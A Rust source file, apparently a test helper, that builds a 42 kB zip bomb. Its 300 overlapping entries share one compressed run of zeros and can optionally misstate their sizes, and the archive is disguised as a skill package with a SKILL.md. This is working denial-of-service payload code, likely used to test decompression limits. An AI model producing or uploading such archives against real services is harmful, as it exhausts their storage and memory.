//! A zip archive of 42 kB that becomes gigabytes: its files overlap. Each file packs the heads of all files after it as plain
//! bytes, and then runs into the one run of zeros that all of them share.

use std::io::{Cursor, Write};

use bytes::Bytes;
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipArchive, ZipWriter};

const FILES: usize = 300;
/// Of the zeros. A file with them is one that would be taken, alone.
const ZEROS: usize = 15 << 20;
/// What an archive says of each file that lies about its size.
const SMALL: u32 = 1_000;
const SKILL_MD: &[u8] = b"---\nname: bomb\ndescription: Becomes very large.\n---\n";

/// An archive, and what it becomes.
pub struct Bomb {
    pub archive: Bytes,
    pub unpacked: u64,
}

/// What an archive says of one file.
#[derive(Clone)]
struct Entry {
    name: String,
    method: u16,
    crc: u32,
    packed: u32,
    /// As it is.
    size: u32,
    /// As it is told.
    told: u32,
}

impl Entry {
    /// The part that is the same in the head of a file and in the list.
    fn facts(&self) -> anyhow::Result<Vec<u8>> {
        let mut facts = Vec::new();
        // Version 2.0, no flags, the method, and midnight of the first day there is.
        for short in [20, 0, self.method, 0, 0x21] {
            facts.extend(u16::to_le_bytes(short));
        }
        for long in [self.crc, self.packed, self.told] {
            facts.extend(u32::to_le_bytes(long));
        }
        facts.extend(u16::try_from(self.name.len())?.to_le_bytes());
        facts.extend([0; 2]);
        Ok(facts)
    }

    fn head(&self) -> anyhow::Result<Vec<u8>> {
        Ok([b"PK\x03\x04", &self.facts()?[..], self.name.as_bytes()].concat())
    }

    fn listed(&self, at: usize) -> anyhow::Result<Vec<u8>> {
        let at = u32::try_from(at)?.to_le_bytes();
        Ok([b"PK\x01\x02\x14\x00", &self.facts()?[..], &[0; 10], &at, self.name.as_bytes()].concat())
    }
}

/// Makes one that tells the sizes as they are, or small ones.
pub fn make(honest: bool) -> anyhow::Result<Bomb> {
    let told = |size: u32| if honest { size } else { SMALL };
    let (zeros, crc) = zeros()?;
    let (packed, size) = (u32::try_from(zeros.len())?, u32::try_from(ZEROS)?);
    let last = Entry { name: name(FILES - 1), method: 8, crc, packed, size, told: told(size) };
    // From the last to the first, since each has all that come after it.
    let mut entries = vec![last];
    for number in (0..FILES - 1).rev() {
        let next = &entries[entries.len() - 1];
        let head = next.head()?;
        let length = u32::try_from(head.len())?;
        let size = next.size + length;
        let crc = joined(crc32(&head), next.crc, next.size);
        let packed = next.packed + length + 5;
        entries.push(Entry { name: name(number), method: 8, crc, packed, size, told: told(size) });
    }
    entries.reverse();
    let size = u32::try_from(SKILL_MD.len())?;
    let skill = Entry { name: "SKILL.md".into(), method: 0, crc: crc32(SKILL_MD), packed: size, size, told: size };
    let unpacked = entries.iter().map(|entry| u64::from(entry.size)).sum();
    Ok(Bomb { archive: archive(&skill, &entries, &zeros)?.into(), unpacked })
}

fn archive(skill: &Entry, entries: &[Entry], zeros: &[u8]) -> anyhow::Result<Vec<u8>> {
    let mut archive = [&skill.head()?[..], SKILL_MD].concat();
    let mut list = skill.listed(0)?;
    for (number, entry) in entries.iter().enumerate() {
        let head = entry.head()?;
        if number > 0 {
            // Says to the file before that so many plain bytes follow.
            let length = u16::try_from(head.len())?;
            archive.push(0);
            archive.extend(length.to_le_bytes());
            archive.extend((!length).to_le_bytes());
        }
        list.extend(entry.listed(archive.len())?);
        archive.extend(head);
    }
    archive.extend(zeros);
    let (count, start) = (u16::try_from(entries.len() + 1)?.to_le_bytes(), u32::try_from(archive.len())?);
    let length = u32::try_from(list.len())?;
    archive.extend(list);
    archive.extend([b"PK\x05\x06\0\0\0\0", &count[..], &count].concat());
    archive.extend([length.to_le_bytes(), start.to_le_bytes()].concat());
    archive.extend([0; 2]);
    Ok(archive)
}

fn name(number: usize) -> String {
    format!("{number:03}")
}

/// The zeros as they are packed, and their checksum.
fn zeros() -> anyhow::Result<(Vec<u8>, u32)> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    writer.start_file("zeros", options.compression_level(Some(9)))?;
    writer.write_all(&vec![0; ZEROS])?;
    let mut archive = ZipArchive::new(writer.finish()?)?;
    let mut packed = Vec::new();
    let mut file = archive.by_index_raw(0)?;
    std::io::copy(&mut file, &mut packed)?;
    Ok((packed, file.crc32()))
}

const POLYNOMIAL: u32 = 0xEDB8_8320;

fn crc32(bytes: &[u8]) -> u32 {
    let step = |crc: u32, _| if crc & 1 == 1 { (crc >> 1) ^ POLYNOMIAL } else { crc >> 1 };
    !bytes.iter().fold(!0, |crc, byte| (0..8).fold(crc ^ u32::from(*byte), step))
}

/// The checksum of two contents one after the other, from those of both and the length of the second.
fn joined(first: u32, second: u32, length: u32) -> u32 {
    // x^(8 * length), modulo the polynomial.
    let (mut shift, mut square, mut left) = (1 << 31, 1 << 23, length);
    while left > 0 {
        if left & 1 == 1 {
            shift = product(shift, square);
        }
        square = product(square, square);
        left >>= 1;
    }
    product(shift, first) ^ second
}

/// Of two polynomials, modulo the one of the checksum; the highest bit is the power of zero.
fn product(one: u32, other: u32) -> u32 {
    let (mut sum, mut power) = (0, other);
    for bit in (0..32).rev() {
        if (one >> bit) & 1 == 1 {
            sum ^= power;
        }
        power = if power & 1 == 1 { (power >> 1) ^ POLYNOMIAL } else { power >> 1 };
    }
    sum
}
